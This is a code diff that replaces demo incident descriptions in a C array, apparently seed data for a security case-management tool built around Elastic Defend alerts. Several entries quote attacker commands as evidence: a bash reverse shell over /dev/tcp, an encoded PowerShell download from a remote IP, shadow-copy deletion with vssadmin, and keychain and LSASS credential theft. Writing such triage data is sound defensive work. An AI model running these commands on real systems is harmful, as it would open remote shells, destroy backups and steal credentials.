@@ -152,20 +152,39 @@ const char *const demo_case_titles[] = {
 const size_t demo_n_case_titles = DEMO_N(demo_case_titles);
 
 const char *const demo_case_descriptions[] = {
-	"Elastic Defend raised several alerts on **%s** within ten minutes.\n\n"
-	"- Initial vector: malicious macro in an invoice document\n"
-	"- Follow-up: encoded PowerShell contacting an external host\n\n"
-	"Next steps: isolate the host, collect memory, reset the user's credentials.",
+	"Files on **%s** were renamed with a `.lockbit` extension and `HOW_TO_DECRYPT.txt` appeared in every folder.\n\n"
+	"- Shadow copies were deleted minutes before\n- The host was isolated by the on-call analyst\n\n"
+	"Next steps: identify patient zero, check backups, reset credentials.",
 	"Outbound connections every 60 s (±2 s jitter) from %s to a domain registered three days ago. "
 	"Traffic volume is small but regular, consistent with a C2 beacon.",
 	"LSASS memory was accessed by `rundll32.exe` loading `comsvcs.dll` on %s. "
 	"Treat all credentials cached on this host as compromised.",
-	"User reported a pop-up asking for their password after opening a PDF. "
-	"Host %s shows a new launch agent and keychain queries from `security`.",
+	"A user on %s opened `Invoice_2024-0193.docm`; Word spawned PowerShell which downloaded a second stage.\n\n"
+	"1. Retrieve the document from the mail gateway\n2. Search for other recipients\n3. Block the sender domain",
+	"Encoded PowerShell ran on %s:\n\n```\npowershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA...\n```\n\n"
+	"Decoded, it fetches `http://203.0.113.77/a.txt`.",
 	"Nginx on %s spawned `python3` which opened a PTY and connected to 198.51.100.23:4444.\n\n"
 	"```\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n```",
-	"Ticket opened from the weekly threat-hunt. Several low-severity signals on %s "
-	"that together look like hands-on-keyboard activity. Needs triage.",
+	"A new key was appended to `/root/.ssh/authorized_keys` on %s outside any change window. "
+	"The key comment is `deploy@laptop` but no such laptop is registered.",
+	"A privileged account signed in from two countries within 40 minutes. Last seen on %s. "
+	"The second sign-in used a legacy protocol that bypasses MFA.",
+	"%s sent 4.2 GB over HTTPS to a file-sharing service between 01:00 and 03:00 UTC. "
+	"No backup or sync job is scheduled at that time.",
+	"Elastic Defend quarantined a known malware sample on %s. Verify that no persistence was left behind "
+	"and that the user did not run a copy from another folder.",
+	"`vssadmin delete shadows /all /quiet` ran on %s — a common step right before encryption. "
+	"No encryption observed yet; the process was killed by the prevention policy.",
+	"After 312 failed logons from one source, a logon to %s succeeded for `svc_backup`. "
+	"The account has no interactive logon rights in policy.",
+	"`shell.php` appeared in the uploads folder of %s and was requested from two external addresses. "
+	"The web server then ran `id` and `uname -a`.",
+	"A scheduled task named *OneDrive Update* on %s runs `C:\\Users\\Public\\odu.exe` at every logon "
+	"with highest privileges. OneDrive does not install tasks like this.",
+	"`security find-generic-password` was run on %s by a script in `/tmp`, reading the Chrome Safe Storage key. "
+	"Browser cookies and saved passwords should be treated as stolen.",
+	"%s connected to 1,024 ports on 60 internal hosts in five minutes. "
+	"The host belongs to IT; check whether a scan was scheduled.",
 };
 const size_t demo_n_case_descriptions = DEMO_N(demo_case_descriptions);
 
